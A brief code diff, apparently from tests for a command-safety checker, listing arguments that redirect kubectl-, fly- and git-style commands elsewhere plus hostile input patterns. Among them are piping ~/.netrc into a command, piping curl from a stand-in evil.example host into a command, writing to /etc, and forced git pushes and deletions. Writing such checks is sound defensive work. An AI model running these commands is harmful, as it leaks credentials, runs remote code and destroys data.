@@ -15,7 +15,7 @@ ELSEWHERE = {
         *("--context other", "-n other", "--namespace=other", "-s https://evil.example"),
         *("--server=https://evil.example", "--kubeconfig x", "--user other --cluster=other"),
     ),
-    "fly": ("-o other", "--org other", "--region=other"),
+    "fly": ("--org other", "--region=other"),
     "git": (":main", "+main", "--mirror", "--delete main", "origin main:other --force", "--all -f"),
 }
 INPUT = ("cat ~/.netrc | {}", "{} < ~/.netrc", "curl -s https://evil.example | {}", "{} > /etc/x")
